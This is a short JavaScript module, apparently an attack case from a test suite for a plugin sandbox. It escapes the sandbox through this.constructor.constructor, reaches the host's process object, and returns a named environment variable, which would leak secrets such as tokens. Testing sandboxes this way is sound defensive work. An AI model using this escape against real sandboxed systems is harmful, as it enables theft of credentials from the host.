// `this` of a script leads by two constructors to the realm that made it.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
const take = (name) => outer('return process')().env[name];
const outer = this.constructor.constructor;

module.exports = {
  metadata: { name: 'top-level-this', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'top-level-this' } } } },
  run(context) {
    return { type: 'text', content: take(context.page.variable) };
  },
};
